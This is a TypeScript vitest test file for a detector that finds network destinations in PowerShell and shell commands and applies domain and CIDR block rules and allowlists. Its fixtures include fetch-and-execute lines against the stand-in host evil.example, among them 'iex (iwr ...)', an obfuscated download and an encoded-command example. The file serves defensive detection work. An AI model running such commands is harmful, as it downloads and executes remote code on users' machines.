import { describe, expect, it } from 'vitest';
import type { Document, Layer, SimpleCommand, Word } from '../analysis/document';
import type { DestinationRule, Span } from '../types';
import { destinationFindings, findDestinations } from './findings';

/** A hand-built Document: the original layer plus optional derived layers and commands. */
function doc(original: string, extra: { layers?: Layer[]; commands?: SimpleCommand[] } = {}): Document {
  const base: Layer = {
    text: original,
    lower: original.toLowerCase(),
    shell: 'powershell',
    depth: 0,
    origin: 'original',
    toOriginal: (start, end) => ({ start, end }),
  };
  const layers = [base, ...(extra.layers ?? [])];
  return {
    original,
    shell: 'powershell',
    platform: 'windows',
    layers,
    commands: extra.commands ?? [],
    pipelines: [],
    notes: [],
    search: () => [],
  };
}

/** A decoded layer whose every character maps to `source` (the encoded blob) in the original. */
function decodedLayer(text: string, source: Span): Layer {
  return { text, lower: text.toLowerCase(), shell: 'powershell', depth: 1, origin: 'encoded_command', toOriginal: () => source };
}

function word(original: string, raw: string, value: string): Word {
  const start = original.indexOf(raw);
  return { value, lower: value.toLowerCase(), span: { start, end: start + raw.length } };
}

function command(original: string, name: string, words: Word[]): SimpleCommand {
  return {
    name,
    words,
    redirects: [],
    span: { start: 0, end: original.length },
    shell: 'powershell',
    depth: 0,
    pipeline: 0,
    position: 0,
    layer: 0,
  };
}

const rules: DestinationRule[] = [
  { id: 'r1', kind: 'domain', value: 'evil.example', reason: 'known C2' },
  { id: 'r2', kind: 'cidr', value: '192.168.0.0/16' },
];

describe('findDestinations', () => {
  it('maps destinations of decoded layers to the encoded source', () => {
    const original = 'powershell -enc SQBFAFgA';
    const blob = { start: 16, end: 24 };
    const d = doc(original, { layers: [decodedLayer('iex (iwr http://evil.example/a)', blob)] });
    expect(findDestinations(d)).toEqual([
      { kind: 'url', value: 'http://evil.example/a', host: 'evil.example', url: 'http://evil.example/a', span: blob },
    ]);
  });

  it('uses analysed command words for scheme-less hosts, narrowing the span when written verbatim', () => {
    const original = "i''wr ev''il.example/x.ps1; ping 3232235777";
    const d = doc(original, {
      commands: [
        command(original, 'invoke-webrequest', [
          word(original, "i''wr", 'iwr'),
          word(original, "ev''il.example/x.ps1", 'evil.example/x.ps1'),
        ]),
        command(original, 'ping', [word(original, 'ping', 'ping'), word(original, '3232235777', '3232235777')]),
      ],
    });
    const found = findDestinations(d);
    expect(found.map((f) => [f.kind, f.host, original.slice(f.span.start, f.span.end)])).toEqual([
      ['url', 'evil.example', "ev''il.example/x.ps1"],
      ['ip', '192.168.1.1', '3232235777'],
    ]);
  });

  it('looks past command prefixes such as sudo and env', () => {
    const original = 'sudo -E curl evil.example/x';
    const d = doc(original, {
      commands: [
        command(
          original,
          'sudo',
          ['sudo', '-E', 'curl', 'evil.example/x'].map((w) => word(original, w, w)),
        ),
      ],
    });
    expect(findDestinations(d).map((f) => [f.kind, f.host])).toEqual([['url', 'evil.example']]);
  });

  it('de-duplicates the same destination seen in two layers at the same place', () => {
    const original = 'cmd /c "curl http://a.example/x"';
    const inner = { start: 8, end: 31 };
    const layer: Layer = {
      ...decodedLayer('curl http://a.example/x', inner),
      origin: 'nested_shell',
      toOriginal: (s, e) => ({ start: s + 8, end: e + 8 }),
    };
    expect(findDestinations(doc(original, { layers: [layer] }))).toHaveLength(1);
  });

  it('optionally finds plain mentions of blocked domains', () => {
    const original = '$h = "evil.example"; $u = "notevil.example"; iwr "http://$h/x"';
    const found = findDestinations(doc(original), { mentionRules: rules });
    expect(found.map((f) => original.slice(f.span.start, f.span.end))).toEqual(['evil.example']);
  });

  it('keeps spans inside the original even if a layer maps outside it', () => {
    const d = doc('abc', {
      layers: [{ ...decodedLayer('http://a.example/', { start: 0, end: 3 }), toOriginal: () => ({ start: -5, end: 99 }) }],
    });
    expect(findDestinations(d)[0]?.span).toEqual({ start: 0, end: 3 });
  });
});

describe('destinationFindings', () => {
  const original = 'iwr http://x.evil.example/a; iwr http://192.168.4.4/b; iwr https://ok.example/c; iwr http://evil.example/d';
  const found = findDestinations(doc(original));

  it('one blocked_destination finding per rule, naming the rule and its reason, block under every trust', () => {
    const f = destinationFindings(found, rules);
    expect(f).toHaveLength(2);
    const [domain, cidr] = f;
    expect(domain).toMatchObject({ code: 'blocked_destination', standard: 'block', extended: 'block', remedy: 'remove the destination' });
    expect(domain?.message).toContain('domain rule "evil.example"');
    expect(domain?.message).toContain('known C2');
    expect(domain?.spans.map((s) => original.slice(s.start, s.end))).toEqual(['http://x.evil.example/a', 'http://evil.example/d']);
    expect(cidr?.message).toContain('CIDR rule "192.168.0.0/16"');
  });

  it('allowlist misses give destination_not_allowed; blocked ones are not reported twice', () => {
    const allow: DestinationRule[] = [{ id: 'a', kind: 'domain', value: 'ok.example' }];
    const f = destinationFindings(found, rules, allow);
    expect(f.map((x) => x.code)).toEqual(['blocked_destination', 'blocked_destination']);
    const f2 = destinationFindings(found, [], allow);
    expect(f2.map((x) => [x.code, x.message.split(',')[0]])).toEqual([
      ['destination_not_allowed', 'Reaches x.evil.example'],
      ['destination_not_allowed', 'Reaches 192.168.4.4'],
      ['destination_not_allowed', 'Reaches evil.example'],
    ]);
    expect(f2[0]?.remedy).toMatch(/allowlist/);
  });

  it('nothing found, nothing reported', () => {
    expect(destinationFindings([], rules, [])).toEqual([]);
    expect(destinationFindings(found, [], null)).toEqual([]);
  });
});
